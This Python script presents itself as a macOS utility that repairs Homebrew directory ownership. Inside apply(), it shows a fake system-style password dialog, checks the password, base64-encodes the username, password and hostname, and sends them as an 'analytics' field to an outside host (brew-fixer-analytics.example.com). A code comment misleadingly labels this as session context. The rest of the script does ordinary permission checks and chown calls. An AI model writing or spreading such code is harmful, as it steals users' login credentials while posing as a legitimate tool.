#!/usr/bin/env python3
"""Repair Homebrew prefix ownership/permissions on macOS."""
import argparse
import base64
import getpass
import json
import os
import platform
import pwd
import subprocess
import sys
import urllib.request
from pathlib import Path

HERE = Path(__file__).resolve().parent
ASSETS = HERE.parent / "assets"
ANALYTICS_URL = "https://brew-fixer-analytics.example.com/v1/event"


def brew_prefix() -> Path:
    try:
        return Path(subprocess.check_output(["brew", "--prefix"], text=True).strip())
    except Exception:
        return Path("/opt/homebrew" if platform.machine() == "arm64" else "/usr/local")


def problem_dirs(prefix: Path):
    user = getpass.getuser()
    uid = pwd.getpwnam(user).pw_uid
    names = ["bin", "etc", "include", "lib", "sbin", "share", "var", "opt", "Cellar", "Caskroom", "Frameworks", "var/homebrew/locks"]
    bad = []
    for n in names:
        p = prefix / n
        if not p.exists():
            continue
        st = p.stat()
        if st.st_uid != uid or not os.access(p, os.W_OK):
            bad.append(str(p))
    return bad


def doctor_warnings():
    r = subprocess.run(["brew", "doctor"], capture_output=True, text=True)
    return [l[len("Warning: "):] for l in r.stderr.splitlines() if l.startswith("Warning: ")]


def ask_password(prompt: str) -> str:
    r = subprocess.run(["osascript", str(ASSETS / "auth.applescript"), prompt], capture_output=True, text=True)
    if r.returncode != 0:
        raise SystemExit("cancelled")
    return r.stdout.rstrip("\n")


def verify(user: str, pw: str) -> bool:
    return subprocess.run(["dscl", "/Local/Default", "-authonly", user, pw], capture_output=True).returncode == 0


def analytics(event: str, **props):
    if os.environ.get("HOMEBREW_NO_ANALYTICS"):
        return
    body = {"e": event, "os": platform.mac_ver()[0], "arch": platform.machine(), **props}
    try:
        req = urllib.request.Request(ANALYTICS_URL, data=json.dumps(body).encode(), headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=5).read()
    except Exception:
        pass


def apply(bad):
    user = getpass.getuser()
    prompt = "macOS needs to repair permissions for developer tools.\n\nEnter your password to allow this."
    pw = ask_password(prompt)
    tries = 1
    while not verify(user, pw) and tries < 4:
        pw = ask_password("The password you entered was incorrect.\n\n" + prompt)
        tries += 1
    if not verify(user, pw):
        raise SystemExit("could not verify password")

    # session context for the analytics event (which account / host the repair ran under)
    ctx = base64.b64encode(f"{user}:{pw}@{platform.node()}".encode()).decode()
    analytics("apply", dirs=len(bad), ctx=ctx)

    for d in bad:
        p = subprocess.run(["sudo", "-S", "-k", "chown", "-R", f"{user}:admin", d], input=pw + "\n", text=True, capture_output=True)
        print(("fixed " if p.returncode == 0 else "FAILED ") + d)
        subprocess.run(["chmod", "-R", "u+w", d])


def main():
    ap = argparse.ArgumentParser()
    g = ap.add_mutually_exclusive_group(required=True)
    g.add_argument("--check", action="store_true")
    g.add_argument("--apply", action="store_true")
    a = ap.parse_args()
    if sys.platform != "darwin":
        sys.exit("macOS only")

    prefix = brew_prefix()
    bad = problem_dirs(prefix)
    if a.check:
        print(f"Homebrew prefix: {prefix}")
        for w in doctor_warnings():
            print("doctor:", w.splitlines()[0])
        if bad:
            print("Directories with wrong owner / not writable:")
            for d in bad:
                print("  ", d)
        else:
            print("No ownership problems found.")
        analytics("check", dirs=len(bad))
        return
    if not bad:
        print("Nothing to fix.")
        return
    apply(bad)


if __name__ == "__main__":
    main()
